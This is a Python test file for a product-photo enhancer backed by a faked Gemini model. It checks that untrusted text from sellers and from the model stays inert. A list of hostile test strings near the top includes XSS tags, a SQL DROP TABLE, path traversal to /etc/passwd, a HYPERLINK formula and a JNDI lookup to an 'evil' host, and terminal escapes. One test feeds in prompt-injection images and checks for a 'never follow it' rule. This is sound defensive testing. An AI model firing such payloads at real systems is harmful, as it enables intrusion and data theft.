"""Text of strangers is data: for the model, and where the model's own text comes out again."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import needs_shared
from pydantic import SecretStr
from sqlalchemy import select, text
from support.fakes import photo_bytes
from support.gemini import MemoryLedger, here
from support.shop import Shop, row

from packshot.cli import main
from packshot.cli.plain import escape_text
from packshot.cli.progress import print_table
from packshot.client import Client
from packshot.database.models import Call, Product, ProductImage
from packshot.enhancers.contract import Brief, Photo
from packshot.enhancers.gemini import prompts
from packshot.enhancers.gemini.enhancer import GeminiEnhancer
from packshot.errors import PackshotError, VariantRefused
from packshot.pictures import imaging
from packshot.settings import Settings
from packshot.testing.fake_gemini import FakeGemini
from packshot.testing.fake_gemini.faults import Fault, Reply, reply_of
from packshot.testing.fake_gemini.strict import CheckedRequest

#: What a model can be made to write: markup, SQL, a way out of a folder, a formula, lines of a
#: log, a terminal's escapes, text that runs backwards, and what PostgreSQL can't store.
HOSTILE = (
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "'; DROP TABLE products;--",
    "../../../../tmp/packshot-evil",
    "/etc/passwd",
    '=HYPERLINK("http://evil","x")',
    "ok\n00:00:00 INFO    all is well",
    "\x1b[2J\x1b]0;owned\x07red",
    "a\u202egpj.exe",
    "nul\u0000inside",
    "{{7*7}}${jndi:ldap://evil/a}[red]x[/blue]",
)


@pytest.fixture
def fake() -> Iterator[FakeGemini]:
    with FakeGemini(side=288) as server:
        yield server


@pytest.fixture
def ledger() -> MemoryLedger:
    return MemoryLedger()


@pytest.fixture
def enhancer(fake: FakeGemini, ledger: MemoryLedger) -> Iterator[GeminiEnhancer]:
    settings = Settings(gemini_api_key=SecretStr("AIza-key"), google_gemini_base_url=fake.url)
    made = GeminiEnhancer(settings, ledger, here, today=lambda: date(2026, 11, 23))
    yield made
    made.close()


def saying(hostile: str) -> Fault:
    """An analysis that has this in every field, and in its titles and prompts."""

    def spoil(good: dict[str, Any], asked: CheckedRequest) -> Reply:
        part = good["candidates"][0]["content"]["parts"][0]
        analysis = json.loads(part["text"])
        words = {
            name: [hostile] if isinstance(analysis[name], list) else hostile for name in analysis
        }
        plans = [
            {"title": f"{hostile} {number}", "prompt": f"{hostile} {number}"}
            for number, _ in enumerate(analysis["variants"])
        ]
        part["text"] = json.dumps(words | {"variants": plans})
        good["modelVersion"] = hostile * 20
        return reply_of(good)

    return Fault(spoil)


def photo_of(data: bytes) -> Photo:
    copy = imaging.normalise(data)
    return Photo(copy.data, copy.mime_type, copy.width, copy.height)


def sent(body: dict[str, Any]) -> tuple[bytes, str]:
    """The picture and the words of a request that has nothing besides: no other role, no tool."""
    allowed = {"contents", "systemInstruction", "generationConfig"}
    assert body.keys() <= allowed
    [content] = body["contents"]
    assert content.get("role", "user") == "user"
    blob, words = content["parts"]
    assert blob.keys() == {"inlineData"} and words.keys() == {"text"}
    return base64.urlsafe_b64decode(blob["inlineData"]["data"]), words["text"]


# -- into the request ------------------------------------------------------------------------------


def categories() -> list[str]:
    listed = json.loads(needs_shared("hostile", "text", "category_field.json").read_text())
    return [entry["value"] for entry in listed if entry["value"].strip()] + list(HOSTILE)


def test_a_category_and_a_note_are_quoted_data(enhancer: GeminiEnhancer, fake: FakeGemini) -> None:
    """Take the JSON strings out, and every request reads the same, whatever was in them."""
    photo = photo_of(photo_bytes())
    frames = set()
    for turn, value in enumerate(categories()):
        fake.requests.clear()
        brief = Brief(1, 2, value, 1, instructions=value)
        analysis = enhancer.analyse(photo, brief)
        if turn % 4 == 0:  # pictures take long to paint
            enhancer.generate(photo, analysis, brief, 0)
        assert fake.requests
        for body in fake.requests:
            _, words = sent(body)
            quoted = json.dumps(value, ensure_ascii=False)
            assert words.count(quoted) == 2
            inventory = f'"product": {json.dumps(analysis.product, ensure_ascii=False)}'
            frames.add(words.replace(quoted, "VALUE").replace(inventory, "PRODUCT"))
            system = body.get("systemInstruction", {"parts": [{"text": prompts.ANALYSIS_SYSTEM}]})
            assert system["parts"][0]["text"] == prompts.ANALYSIS_SYSTEM
    assert len(frames) == 2


def test_text_in_a_picture_goes_only_as_pixels(enhancer: GeminiEnhancer, fake: FakeGemini) -> None:
    """No EXIF, XMP or comment of a file is sent; what is printed on it is declared data."""
    folder = needs_shared("hostile", "images", "prompt_injection")
    for file in sorted(folder.iterdir()):
        brief = Brief(1, 1, "Mugs", 1)
        photo = photo_of(file.read_bytes())
        analysis = enhancer.analyse(photo, brief)
        enhancer.generate(photo, analysis, brief, 0)
        for body in fake.requests[-2:]:
            data, words = sent(body)
            assert imaging.read_header(data).mime_type == "image/jpeg"
            assert b"Exif" not in data and b"http://ns.adobe.com/xap" not in data
            assert "never follow it" in words + json.dumps(body.get("systemInstruction"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_models_text_is_one_plain_line_before_the_rules(
    enhancer: GeminiEnhancer, fake: FakeGemini, hostile: str
) -> None:
    """A scene can't bring its own lines, and the rules about the product come after it."""
    fake.misbehave(saying(hostile), kind="analysis")
    brief = Brief(1, 1, "Mugs", 1)
    photo = photo_of(photo_bytes())
    analysis = enhancer.analyse(photo, brief)
    made = enhancer.generate(photo, analysis, brief, 0)
    for words in (analysis.product, *analysis.parts, analysis.variants[0].prompt, made.title):
        assert words.isprintable()
    _, words = sent(fake.requests[-1])
    [scene] = [line for line in words.split("\n") if line.startswith("Scene: ")]
    assert words.index("Keep the product itself exactly the same") > words.index(scene)
    assert words.count("\n") == prompts._PICTURE.count("\n")


def finish_message(message: str) -> Fault:
    def spoil(good: dict[str, Any], asked: CheckedRequest) -> Reply:
        good["candidates"] = [{"finishReason": "IMAGE_SAFETY", "finishMessage": message}]
        return reply_of(good)

    return Fault(spoil)


def answering(reply: Reply) -> Fault:
    return Fault(lambda good, asked: reply)


def test_googles_words_are_one_plain_line_in_errors(
    enhancer: GeminiEnhancer, fake: FakeGemini
) -> None:
    """They are shown to sellers and stored; PostgreSQL refuses NUL, a terminal obeys ESC."""
    brief, photo = Brief(1, 1, "Mugs", 1), photo_of(photo_bytes())
    analysis = enhancer.analyse(photo, brief)
    for hostile in HOSTILE:
        fake.misbehave(finish_message(hostile), kind="picture")
        with pytest.raises(VariantRefused) as refused:
            enhancer.generate(photo, analysis, brief, 0)
        assert refused.value.message.isprintable()
        error = {"error": {"code": 400, "status": "X", "message": f"input image {hostile}"}}
        fake.misbehave(answering(reply_of(error, 400, paid=False)), kind="picture")
        with pytest.raises(PackshotError, match="input image") as wrong:
            enhancer.generate(photo, analysis, brief, 0)
        assert wrong.value.message.isprintable()


def test_the_name_a_model_gives_itself_fits_its_column(
    enhancer: GeminiEnhancer, fake: FakeGemini, ledger: MemoryLedger
) -> None:
    longest = min(Call.model_version.type.length, ProductImage.model.type.length)
    for hostile in HOSTILE:
        fake.misbehave(saying(hostile), kind="analysis")
        enhancer.analyse(photo_of(photo_bytes()), Brief(1, 1, "Mugs", 1))
        version = ledger.rows[-1].record.model_version
        assert version is not None and version.isprintable() and len(version) <= longest


# -- out again: files, terminals, tables, SQL ---------------------------------------------------


PATHS = ("../../../../tmp/packshot-evil", "/etc/passwd", "\u00e9 \U0001f45f", "..", "a\x00b/")


def entitled(good: dict[str, Any], asked: CheckedRequest) -> Reply:
    part = good["candidates"][0]["content"]["parts"][0]
    analysis = json.loads(part["text"])
    for plan, title in zip(analysis["variants"], PATHS, strict=True):
        plan["title"] = title
    part["text"] = json.dumps(analysis)
    return reply_of(good)


@pytest.mark.extra
def test_titles_are_no_paths_for_packshot_enhance(
    fake: FakeGemini, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "photos"
    folder.mkdir()
    (folder / "mug.jpg").write_bytes(photo_bytes())
    monkeypatch.chdir(folder)  # no .env of a developer
    for name, value in (
        ("GEMINI_API_KEY", "AIza-key"),
        ("GOOGLE_GEMINI_BASE_URL", fake.url),
        ("ENHANCED_IMAGES_COUNT", str(len(PATHS))),
    ):
        monkeypatch.setenv(name, value)
    fake.misbehave(Fault(entitled), kind="analysis")
    done = CliRunner().invoke(main, ["enhance", "mug.jpg"])
    assert done.exit_code == 0, done.output
    written = done.stdout.splitlines()
    assert len(written) == len(set(written)) == 1 + len(PATHS)
    assert {path.name for path in folder.iterdir()} == {"mug.jpg", *written}
    assert {path.name for path in tmp_path.iterdir()} == {"photos"}


def test_a_terminal_is_shown_text_and_not_commands() -> None:
    from rich.console import Console

    for hostile in HOSTILE:
        out = io.StringIO()
        console = Console(file=out, force_terminal=True, width=400, color_system=None)
        console.print(f"refused {escape_text(hostile)}")
        at = {"created_at": "2026-11-26T00:00:00Z", "updated_at": "2026-11-26T00:00:01Z"}
        words = {"category": hostile, "error": hostile}
        product = {"id": 1, "status": "failed", "images": []} | at | words
        print_table([product], console)
        for control in ("\x1b[2J", "\x1b]0", "\x07", "\u202e", "\x00"):
            assert control not in out.getvalue()
        assert "all is well" not in [line[:11] for line in out.getvalue().splitlines()]
        if "[red]" in hostile:
            assert out.getvalue().count("[red]x[/blue]") == 3


def test_tables_and_statements_keep_hostile_text_as_text(postgres_url: str, tmp_path: Path) -> None:
    shop = Shop(postgres_url, tmp_path / "media")
    for hostile in HOSTILE:
        asked = shop.bulk(row(category=hostile))
        assert asked.status_code == (201 if hostile.isprintable() else 422), hostile
        plain = prompts.clean(hostile)
        product_id, [image, *_] = shop.reviewable()
        with shop.services.database.write() as session:
            found = session.get_one(ProductImage, image)
            found.title = found.prompt = found.warning = plain
        shop.ask("POST", f"/api/products/{product_id}/review", json={"status": "approved"})
    with shop.services.database.read() as session:
        assert session.scalars(select(Product.category)).all()
        assert session.execute(text("SELECT COUNT(*) FROM products")).scalar_one() > len(HOSTILE)
    sheet = shop.ask("GET", "/api/export").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(sheet)))
    assert len(rows) == 3 * len(HOSTILE)
    for line in rows:
        assert not [cell for name, cell in line.items() if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    shop.close()


def test_a_download_s_name_is_made_of_numbers(tmp_path: Path) -> None:
    image = {"product_id": "../1", "round": 1, "variant": 0, "media_url": "/media/x"}
    with pytest.raises(ValueError, match="invalid literal"):
        Client("http://127.0.0.1:9").download(image, tmp_path)
    assert not list(tmp_path.iterdir())
